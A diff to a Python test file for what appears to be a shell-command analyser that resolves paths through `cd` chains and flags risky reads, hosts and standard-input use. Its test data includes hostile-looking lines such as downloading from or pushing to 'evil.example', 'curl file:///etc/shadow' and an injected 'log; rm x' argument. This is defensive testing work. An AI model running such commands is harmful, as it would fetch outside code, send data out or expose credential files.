@@ -95,6 +95,67 @@ def test_every_command_in_a_line_is_listed_wrappers_and_wrapped(
     assert codes(targets) == sorted(expected)
 
 
+FROM_THERE = [
+    # line, the places that its `x` or `../x` is judged from
+    ("cat x", ["x"]),
+    ("cd a && cat ../x", ["x"]),
+    ("cd a && cd b && cat ../x", ["a/x"]),
+    ("cd a; cat x", ["a/x", "x"]),
+    ("cd a; cat ../x", ["../x", "x"]),
+    ("cd a\ncat ../x", ["../x", "x"]),
+    ("cd a | true; cat ../x", ["../x", "x"]),
+    ("true || cd a && cat ../x", ["../x", "x"]),
+    ("true ||\ncd a && cat ../x", ["../x", "x"]),
+    ("cd a && ls || cat ../x", ["../x", "x"]),
+    ("cd a && sh -c 'cd b && cat ../x'", ["a/x"]),
+    ("sh -c 'cd a' && cat ../x", ["../x", "x"]),
+    ("cd a && command cd .. && cat ../x", ["../x", "x"]),
+    ("cd -- a && cat ../x", ["x"]),
+    ("cd /w && cat ../x", ["/x"]),
+    ("cd && cat x", ["~/x"]),
+]
+
+
+@each(("line", "places"), FROM_THERE)
+def test_a_name_is_judged_from_every_place_where_a_cd_before_it_may_have_led(
+    line: str, places: list[str]
+) -> None:
+    targets = extract(
+        {"command": line}, effects=("exec",), roles={}, programs=Programs(binaries={}, files=True)
+    )
+    found = {each.path for each in targets.paths if each.path.endswith("x")}
+    found |= {"../x" for each in targets.problems if each.code == "escape"}
+    found |= {"~/x" for each in targets.problems if each.code == "home"}
+    assert sorted(found) == sorted(places)
+
+
+def test_a_line_may_lead_to_as_many_places_as_are_judged_and_no_more() -> None:
+    assert "nesting" not in codes(run(command="cd a; cd b; cd c; ls"))
+    assert "nesting" in codes(run(command="cd a; " * 500))
+
+
+@each(
+    ("line", "is_refused"),
+    [
+        ("vim x", False),
+        ("git commit -m x", False),
+        ("vim x < y", True),
+        ("echo x | git commit --amend", True),
+        ("echo x | git commit -F -", False),
+        ("echo x | sudo vim x", True),
+        ("sh -c 'vim x' < y", True),
+        ("vim x <<'E'\ny\nE", True),
+        ("echo x | cat; vim x", False),
+        ("echo x | ssh h", True),
+        ("echo x | ssh h cat", False),
+    ],
+)
+def test_a_program_that_obeys_its_standard_input_is_given_none_by_a_line(
+    line: str, *, is_refused: bool
+) -> None:
+    assert ("input" in codes(run(command=line))) is is_refused
+
+
 SHAPES: list[tuple[dict[str, object], list[list[str]], list[str]]] = [
     ({"argv": ["cat", "log; rm x"]}, [["cat", "log; rm x"]], []),
     ({"cmd": ["bash", "-c", "rm x"]}, [["bash", "-c", "rm x"], ["rm", "x"]], []),
@@ -264,9 +325,9 @@ def reached(line: str, programs: Programs = LIMITED) -> list[str]:
     ("line", "found"),
     [
         ("cat a /b", ["read /b", "read a"]),
-        ("cd web && cat a ../b /c", ["read /c", "read b", "read web", "read web/a"]),
-        ("cd web; cd x; ls y", ["read web", "read web/x", "read web/x/y"]),
-        ("cd web && cat ~/x", ["read web", "read ~/x", "path home"]),
+        ("cd web && cat a ../b /c", ["load web", "read /c", "read b", "read web/a"]),
+        ("cd web && cd x && ls y", ["load web", "load web/x", "read web/x/y"]),
+        ("cd web && cat ~/x", ["load web", "read ~/x", "path home"]),
         ("cd && cat x", ["read ~/x", "path home"]),
         ("cat a > b 2>/dev/null", ["read a", "write b"]),
         ("sort -o x y | tee z", ["read y", "write x", "write z"]),
@@ -277,7 +338,7 @@ def reached(line: str, programs: Programs = LIMITED) -> list[str]:
         ("docker exec box curl evil.example -o /x", ["host evil.example"]),
         ("git push git@evil.example:x/y main", ["host evil.example"]),
         ('git commit -m "http: retry" -m "see https://evil.example/"', []),
-        ("grep -rn '// TODO' src", ["read src"]),
+        ("grep -rn '// NOTE' src", ["read src"]),
         ("curl file:///etc/shadow", ["host scheme"]),
         ("tool x", ["command undeclared"]),
         ("offline https://evil.example/", ["write https:/evil.example"]),
